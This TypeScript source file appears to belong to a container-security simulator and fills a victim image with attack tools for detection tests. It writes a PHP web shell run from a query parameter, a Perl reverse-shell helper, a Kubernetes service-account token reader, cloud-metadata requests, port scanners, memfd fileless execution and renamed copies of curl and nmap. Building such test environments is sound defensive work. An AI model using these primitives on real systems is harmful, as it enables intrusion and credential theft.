import { chmodSync, chownSync, copyFileSync, mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import type { VictimRoot } from "@atalaya/simulator";
import { Fault } from "@atalaya/wire";
import { callFiles } from "./call-files.ts";
import { nameFiles } from "./names.ts";

// What the attacks need in the victim's image. A program that is copied while the container runs is a drift binary
// and known as one; only a copy in the image shows that the name was never the only mark.

/** Programs of the image under names that say nothing. */
const renamed = {
  "opt/report": "usr/bin/dash",
  "opt/show": "usr/bin/cat",
  "opt/look": "usr/bin/find",
  "opt/select": "usr/bin/grep",
  "opt/walk": "usr/bin/nmap",
  "opt/fetch": "usr/bin/curl",
  "opt/probe": "usr/bin/perl",
  "opt/work": "usr/bin/true",
  "opt/load": "usr/bin/true",
  // Changed by attacks, which all run in one container: no other may use them.
  "opt/altered": "usr/bin/true",
  "opt/guarded": "usr/bin/true",
  "opt/xmrig": "usr/bin/true",
  "opt/raised": "usr/bin/true",
  "opt/raised-too": "usr/bin/true",
} as const;

const connectTo = `use Socket;
sub try_one {
  socket(my $s, PF_INET, SOCK_STREAM, 0) or die;
  connect($s, sockaddr_in($_[1], inet_aton($_[0])));
  close($s);
}
`;

const files: Record<string, string> = {
  // The program and its arguments come as argv[]: no shell takes part.
  "var/www/html/run.php": `<?php
$program = proc_open($_GET["argv"], [["file", "/dev/null", "r"], ["pipe", "w"], ["file", "/dev/null", "w"]], $pipes);
if ($program !== false) { echo stream_get_contents($pipes[1]); proc_close($program); }
`,
  "var/www/html/token.php": `<?php echo strlen(file_get_contents("/var/run/secrets/kubernetes.io/serviceaccount/token"));\n`,
  "opt/steps.sh": "id\n",
  // Made executable by its attack: then its mode alone is the container's own.
  "opt/steps": "#!/bin/sh\nid\n",
  "opt/read-preload.sh": ": < /etc/ld.so.preload\n",
  "opt/preload.sh": ": >> /etc/ld.so.preload\n",
  // Opened for writing and nothing written: even where the container may, the machine stays as it is.
  "opt/huge-pages.sh": ": >> /proc/sys/vm/nr_hugepages\n",
  "opt/read-huge-pages.sh": ": < /proc/sys/vm/nr_hugepages\n",
  "opt/metadata.curl": 'url = "http://169.254.169.254/latest/meta-data/"\n',
  "opt/attacker.curl": 'url = "http://10.99.7.2/latest/meta-data/"\n',
  "opt/addresses.pl": `${connectTo}try_one("10.99.7.$_", 8443) for (10 .. 9 + $ARGV[0]);\n`,
  "opt/ports.pl": `${connectTo}try_one("10.99.7.2", $_) for (9000 .. 8999 + $ARGV[0]);\n`,
  "opt/connect.pl": `${connectTo}try_one($ARGV[0], $ARGV[1]);\n`,
  "opt/module.pl": 'exec { "/sbin/modprobe" } "modprobe", "overlay"; exit 0;\n',
  "opt/ask.pl": 'open(my $in, "<", $ARGV[0]) or die; chomp(my $name = <$in>); gethostbyname($name);\n',
  // ADDRESS PORT STREAMS PROGRAM...: lays a connection over the streams, then becomes the program.
  "opt/stream.pl": `use Socket; use POSIX ();
my ($to, $port, $streams, @program) = @ARGV;
socket(my $s, PF_INET, SOCK_STREAM, 0) or die;
connect($s, sockaddr_in($port, inet_aton($to))) or die;
POSIX::dup2(fileno($s), $_) for split(/,/, $streams);
exec { $program[0] } @program;
`,
  // FAMILY TYPE PROTOCOL
  "opt/socket.pl": "socket(my $s, $ARGV[0], $ARGV[1], $ARGV[2]) or die;\n",
  // PATH: a server and its client at once. Nobody else listens there.
  "opt/unix.pl": `use Socket;
unlink($ARGV[0]);
socket(my $l, PF_UNIX, SOCK_STREAM, 0) or die;
bind($l, sockaddr_un($ARGV[0])) or die;
listen($l, 1) or die;
socket(my $s, PF_UNIX, SOCK_STREAM, 0) or die;
connect($s, sockaddr_un($ARGV[0])) or die;
unlink($ARGV[0]);
`,
  "opt/listen.pl": `use Socket;
socket(my $s, PF_INET, SOCK_STREAM, 0) or die;
bind($s, sockaddr_in($ARGV[0], INADDR_ANY)) or die;
listen($s, 1) or die;
`,
  ...callFiles,
  "opt/start.pl": 'exec { "/opt/work" } "work";\n',
  // memfd_create(2): 319 on x86_64, 279 on arm64. Without close-on-exec, or the program could not be named.
  "opt/memory.pl": `open(my $in, "<", "/bin/true") or die; binmode($in); local $/; my $program = <$in>;
my $name = "work";
my $fd = syscall($ARGV[0], $name, 0);
open(my $out, ">&=", $fd) or die; binmode($out); $out->autoflush(1); print $out $program;
exec { "/proc/self/fd/$fd" } "work";
`,
  ...Object.fromEntries(Object.entries(nameFiles).map(([file, name]) => [`opt/names/${file}`, `${name}\n`])),
  "root/.ssh/id_rsa": "planted\n",
  "root/.ssh/config": "Host *\n",
  // MODE FILE: of a file that is open already.
  "opt/mode.pl": 'open(my $f, "<", $ARGV[1]) or die; chmod(oct($ARGV[0]), $f) or die;\n',
  // Linked, moved, removed and emptied by one attack each.
  ...Object.fromEntries(
    [
      ...["keys/id_ed25519", "keys/authorized", "keys/.pgpass", "keys/.plan"],
      ...["home/.bash_history", "home/.bash_logout", "home/.ash_history", "home/.profile"],
      ...["log/auth.log", "log/build.log", "log/wtmp", "log/work", "log/syslog", "log/report"],
    ].map((path) => [`opt/${path}`, "planted\n"]),
  ),
  "home/user/.gitconfig": "[user]\n",
};

export const memfdCreate = process.arch === "arm64" ? "279" : "319";

/** Fills the image's last layer. Throws Fault when the root is busybox' alone: the tools of the attacks are Debian's. */
export function addAttackTools(layer: string, root: VictimRoot): void {
  if (root.kind !== "debian") {
    throw new Fault(
      "SIMULATION_UNAVAILABLE",
      `the attacks need a Debian root: ${root.reason ?? "it could not be made"}`,
    );
  }
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(layer, path)), { recursive: true, mode: 0o755 });
    writeFileSync(join(layer, path), text, { mode: 0o644 });
  }
  for (const [path, program] of Object.entries(renamed)) {
    copyFileSync(join(root.path, program), join(layer, path));
    chmodSync(join(layer, path), 0o755);
  }
  chownSync(join(layer, "root/.ssh/id_rsa"), 0, 0);
  chmodSync(join(layer, "root/.ssh/id_rsa"), 0o600);
}
